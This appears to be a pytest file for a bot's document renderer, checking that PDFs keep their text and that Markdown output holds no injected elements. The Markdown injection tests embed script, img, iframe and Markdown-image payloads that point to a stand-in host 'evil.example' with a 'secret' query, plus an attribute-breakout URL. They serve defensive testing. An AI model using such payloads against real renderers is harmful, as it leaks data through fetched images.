"""Documents as readers get them that have no part in making them: PDFs opened by PDFium, Markdown read by a parser that
takes HTML for HTML."""

import re
from html.parser import HTMLParser
from typing import Any

import pypdfium2
import pytest
from markdown_it import MarkdownIt

from bot.documents.render import render
from tests.fakes.papers import LETTER, REPORT, document, pages_of_text

RUNNING = re.compile(r"Palabre · 3 mars 2026 Page \d+ / \d+$")
EVIL = "https://evil.example/p.png?d=secret"
CURIOUS = (
    "Œuvre, « ça » : l’été à Yamoussoukro… 3 € – 50 % — ½ ≤ 12 × 7 ≠ ∞.",
    "Ωμέγα, α et β ; Привет, мир ; ɛ, ɔ et ŋ comme en dioula et en éwé.",
    "1 500 FCFA le 3/11/2026, n° 12 ; a_b * c # d $ 5 [e] <f> & g.",
)


def pages_of(given: dict[str, Any]) -> list[str]:
    """The text of each page, without its head and foot; each page is drawn and has something on it."""
    pages = []
    with pypdfium2.PdfDocument(render("pdf", document(given), timeout_s=60)) as pdf:
        for number, page in enumerate(pdf):
            assert len(set(bytes(page.render(scale=0.3, grayscale=True).buffer))) > 2, f"page {number + 1} is blank"
            text = page.get_textpage().get_text_bounded().replace("\r\n", "\n")
            running = given["title"] if number else ""  # PDFium reads the head of a page behind its foot
            pages.append(RUNNING.sub("", text.removesuffix(running).strip()).strip())
    return pages


def joined(text: str) -> str:
    return " ".join(text.replace("\u00a0", " ").replace("\u202f", " ").split())


def test_ten_pages_say_what_was_written_and_nothing_else() -> None:
    content = pages_of_text(10)
    pages = pages_of({"title": "Le cours", "content": content})
    assert len(pages) >= 9
    assert joined("\n".join(pages)) == joined(f"Le cours {content.replace('## ', '')}")


def test_letters_of_many_kinds_are_read_as_they_were_written() -> None:
    given = {"title": "Signes", "blocks": [{"type": "code", "text": "\n".join(CURIOUS)}]}
    assert joined("\n".join(pages_of(given))) == joined(f"Signes {' '.join(CURIOUS)}")


def test_a_report_has_all_its_parts_in_their_order() -> None:
    pages = pages_of(REPORT)
    assert len(pages) == 3
    text, at = joined("\n".join(pages)), 0
    for words in (
        "Bilan du premier trimestre", "Awa Koné, classe de 3e", "avec 1/2, du gras et un lien.", "1. d’abord",
        "– dedans", "2. ensuite", "Qui vivra verra.", "def f(x): return x", "Les notes", "Notes par mois",
        "Fournitures Prix Quantité", "Cahier 200 p. 1 500 FCFA 2", "Règle 300 FCFA 3", "• réviser les fractions",
        "• lire x²", "Temps de travail", "Sources", "1. Encyclopédie", "https://example.org/encyclopedie",
    ):  # fmt: skip
        assert words in text[at:], words
        at = text.index(words, at) + len(words)


def test_a_letter_is_one_page_with_all_its_words() -> None:
    (page,) = pages_of(LETTER)
    assert joined(LETTER["content"]) in joined(page)
    frame = LETTER["letter"]
    for words in (frame["sender"], frame["recipient"], f"Objet : {frame['subject']}", "Abidjan, le 3 mars 2026"):
        assert joined(words) in joined(page)


class Seen(HTMLParser):
    """The elements, addresses and words of a page."""

    def __init__(self, markdown: str) -> None:
        super().__init__()
        self.elements: set[str] = set()
        self.addresses: set[str] = set()
        self.text = ""
        parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
        self.feed(parser.render(markdown))

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.add(tag)
        self.addresses |= {value or "" for name, value in attrs if name in ("href", "src")}

    def handle_data(self, data: str) -> None:
        self.text += data


def seen(given: dict[str, Any], **changes: Any) -> Seen:
    return Seen(render("md", document({"title": "Fiche"} | given, **changes), timeout_s=60).decode())


def test_markdown_means_the_same_to_another_reader() -> None:
    page = seen(REPORT)
    assert {"h1", "h2", "ol", "ul", "blockquote", "pre", "table", "strong", "em", "hr"} <= page.elements
    assert page.addresses == {"https://example.org/lien", "https://example.org/encyclopedie"}
    assert "Cahier 200 p." in joined(page.text)


@pytest.mark.parametrize(
    "given",
    [
        {"content": f"<script>x</script> <img src='{EVIL}'> <b>g</b>\n\n<iframe src='{EVIL}'>\n\n`<u>` ![a]({EVIL})"},
        {"content": f"Voici $![a]({EVIL})$, $<img src='{EVIL}'>$ et $$\n<script src='{EVIL}'>\n$$"},
        {"blocks": [{"type": "formula", "text": f"<script src='{EVIL}'>x"}]},
        {"blocks": [{"type": "formula", "text": f"x ![a]({EVIL})"}]},
        {"content": f"| `a|![a]({EVIL})` | b |\n|---|---|\n| `c\\|![a]({EVIL})` | $d\\|![a]({EVIL})$ |"},
        {"blocks": [{"type": "table", "rows": [["t", f"`c|![a]({EVIL})`"], [f"<img src='{EVIL}'>", f"![a]({EVIL})"]]}]},
        {"blocks": [{"type": "bar", "text": f"<img src='{EVIL}'>", "rows": [["<u>", "![y](x)"], ["<img src=x>", 2]]}]},
        {"blocks": [{"type": "code", "text": "```\n<script>"}, {"type": "quote", "text": "<script>"}]},
        {"title": f"<img src='{EVIL}'> ![a]({EVIL})"},
    ],
    ids=["text", "inline formulas", "formula", "image formula", "code cells", "cells", "chart", "code", "title"],
)
def test_no_text_becomes_an_element_or_is_fetched(given: dict[str, Any]) -> None:
    page = seen({"content": "Suite."} | given, links=())
    assert page.elements.isdisjoint({"script", "img", "iframe", "u", "b", "svg"})
    assert page.addresses == set()


def test_a_source_is_a_link_and_no_element() -> None:
    page = seen({"content": "a", "sources": [{"title": "<img src=x>", "url": f'{EVIL}"><img/src=x>'}]})
    assert "img" not in page.elements
    assert len(page.addresses) == 1


def test_formulas_keep_their_meaning() -> None:
    page = seen({"content": "Si $a<b$ alors $[0](x)>1$.", "blocks": [{"type": "formula", "text": "x < 3"}]})
    assert r"$a\lt b$" in page.text
    assert r"$[0] (x)\gt 1$" in page.text
    assert r"x \lt 3" in page.text
